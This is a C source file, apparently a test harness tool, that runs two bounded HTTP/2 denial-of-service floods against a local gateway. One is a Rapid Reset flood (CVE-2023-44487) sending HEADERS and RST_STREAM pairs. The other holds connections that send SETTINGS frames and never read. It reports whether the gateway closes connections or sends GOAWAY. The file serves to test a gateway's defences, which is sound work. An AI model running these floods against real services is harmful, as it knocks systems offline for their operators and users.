/* h2flood: the HTTP/2 floods of issue 6, bounded in time and count, against a gateway on
 * 127.0.0.1 (tests/flood/run starts one and reads its CPU and memory around each).
 *
 *   h2flood reset PORT SECONDS MAX_STREAMS PATH
 *       Rapid Reset (CVE-2023-44487): connection after connection, HEADERS + RST_STREAM
 *       pairs in batches of 100 (GET PATH: /readyz costs the database a statement, with no
 *       token) until the gateway closes the connection; prints how many streams were
 *       written and how long a connection lived.
 *   h2flood settings PORT SECONDS CONNECTIONS
 *       CONNECTIONS connections that send SETTINGS frames without ever reading; prints how
 *       many were refused at once (MAX_CONNECTIONS) and how many the gateway closed. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "h2raw.h"
#include "harness.h"

static long now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static int cmp_long(const void *a, const void *b)
{
    long x = *(const long *)a, y = *(const long *)b;
    return x < y ? -1 : x > y;
}

static int flood_reset(int port, long seconds, long max_streams, const char *path)
{
    enum { BATCH = 100, MAX_CONNS = 100000 };
    unsigned char block[2048], *buf = malloc(BATCH * (sizeof block + 40));
    size_t bl = h2_request_block(block, 0, path, NULL);
    long *lived = malloc(sizeof(long) * MAX_CONNS), total = 0, t0 = now_ms();
    int conns = 0, goaways = 0, never_closed = 0;
    while (now_ms() - t0 < seconds * 1000 && total < max_streams && conns < MAX_CONNS) {
        int fd = h_tcp_connect(port);
        if (fd < 0)
            break;
        long c0 = now_ms();
        size_t n = h2_preface(buf);
        int closed = 0, answers = 0;
        long goaway = -1, sent = 0;
        unsigned stream = 1;
        if (send(fd, buf, n, MSG_NOSIGNAL) != (ssize_t)n)
            closed = 1;
        while (!closed && total + sent < max_streams && now_ms() - t0 < seconds * 1000) {
            static const unsigned char cancel[4] = {0, 0, 0, 8};
            n = 0;
            for (int i = 0; i < BATCH; i++, stream += 2) {
                n += h2_frame(buf + n, H2_HEADERS, H2_END_STREAM | H2_END_HEADERS, stream, block, bl);
                n += h2_frame(buf + n, H2_RST_STREAM, 0, stream, cancel, 4);
            }
            if (send(fd, buf, n, MSG_NOSIGNAL) != (ssize_t)n)
                closed = 1;
            else
                sent += BATCH;
            h2_drain(fd, 0, &closed, &goaway, &answers);
        }
        h2_drain(fd, closed ? 0 : 2000, &closed, &goaway, &answers);
        never_closed += !closed;
        goaways += goaway == 11;
        lived[conns++] = now_ms() - c0;
        total += sent;
        close(fd);
    }
    qsort(lived, (size_t)conns, sizeof *lived, cmp_long);
    printf("reset flood: %ld streams written over %d connections in %ld ms; %d got GOAWAY ENHANCE_YOUR_CALM, %d were "
           "never closed; a connection lived %ld ms (median), %ld ms (max)\n",
           total, conns, now_ms() - t0, goaways, never_closed, conns ? lived[conns / 2] : 0, conns ? lived[conns - 1] : 0);
    free(lived);
    free(buf);
    return 0;
}

static int flood_settings(int port, long seconds, int connections)
{
    int *fds = malloc(sizeof(int) * (size_t)connections), opened = 0, closed = 0;
    unsigned char chunk[9 * 100], pre[128];
    for (int k = 0; k < 100; k++)
        h2_frame(chunk + 9 * k, H2_SETTINGS, 0, 0, NULL, 0);
    for (int i = 0; i < connections; i++) {
        fds[i] = h_tcp_connect(port);
        if (fds[i] >= 0 && send(fds[i], pre, h2_preface(pre), MSG_NOSIGNAL) > 0) {
            fcntl(fds[i], F_SETFL, O_NONBLOCK);
            opened++;
        }
    }
    for (long t0 = now_ms(); now_ms() - t0 < seconds * 1000; usleep(10000)) {
        for (int i = 0; i < connections; i++)
            if (fds[i] >= 0 && send(fds[i], chunk, sizeof chunk, MSG_NOSIGNAL) < 0 && errno != EAGAIN) {
                close(fds[i]); /* the gateway closed it (refused at accept, or idle timeout) */
                fds[i] = -1, closed++;
            }
    }
    for (int i = 0; i < connections; i++)
        if (fds[i] >= 0)
            close(fds[i]);
    printf("settings flood: %d connections opened, each sending SETTINGS for %ld s and reading nothing; the gateway closed "
           "%d of them\n",
           opened, seconds, closed);
    free(fds);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc >= 6 && strcmp(argv[1], "reset") == 0)
        return flood_reset(atoi(argv[2]), atol(argv[3]), atol(argv[4]), argv[5]);
    if (argc >= 5 && strcmp(argv[1], "settings") == 0)
        return flood_settings(atoi(argv[2]), atol(argv[3]), atoi(argv[4]));
    fprintf(stderr, "usage: h2flood reset PORT SECONDS MAX_STREAMS PATH | settings PORT SECONDS CONNECTIONS\n");
    return 2;
}
